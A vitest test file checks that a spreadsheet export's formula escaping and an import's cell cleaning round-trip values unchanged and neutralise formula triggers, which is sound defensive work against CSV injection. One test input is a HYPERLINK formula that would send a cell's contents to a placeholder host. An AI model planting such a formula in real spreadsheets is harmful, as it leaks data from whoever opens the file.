import { describe, expect, it } from 'vitest';
import { escapeFormula } from '@custodia/data';
import { cleanCell } from '../../../packages/data/src/import-files/cells.js';

/** The export's formula escape and the import's cell cleaning are inverses, so export → import changes no value. */
describe('formula escape round trip (EX-01 export, IM-08 import)', () => {
  const read = (cell: string) => cleanCell(cell, 2, 'name', 20_000);

  it.each([
    '=HYPERLINK("http://x/?"&A1)', '@SUM(1+1)', '-2+3', '+1', '\t=1+1', '\r=2+2', '\0x',
    "'=already quoted", "''=twice", "'-5", "'quoted", "'", "''", "'Tis", 'a=b', 'Zoë Müller', '',
  ])('%j survives export and re-import unchanged', (value) => {
    const exported = escapeFormula(value);
    expect(read(exported)).toBe(value);
    // And the exported text never starts with a formula trigger.
    expect(exported).not.toMatch(/^[=+\-@\t\r\0]/);
  });

  it('escapes exactly the values that need it', () => {
    expect(escapeFormula('=1+1')).toBe("'=1+1");
    expect(escapeFormula("'=1+1")).toBe("''=1+1");
    expect(escapeFormula("'quoted")).toBe("'quoted");
    expect(read("'=1+1")).toBe('=1+1');
    expect(read("  '@x  ")).toBe('@x');
    expect(read("'quoted")).toBe("'quoted");
  });
});
